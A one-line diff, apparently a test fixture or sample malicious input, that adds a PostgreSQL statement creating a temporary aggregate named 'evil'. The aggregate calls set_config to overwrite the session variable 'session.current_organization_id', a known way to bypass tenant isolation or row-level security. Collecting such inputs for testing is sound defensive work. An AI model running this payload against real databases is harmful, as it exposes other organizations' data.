@@ -1,0 +1,1 @@
+CREATE AGGREGATE pg_temp.evil(text,boolean)(sfunc=set_config,stype=text,initcond='session.current_organization_id')
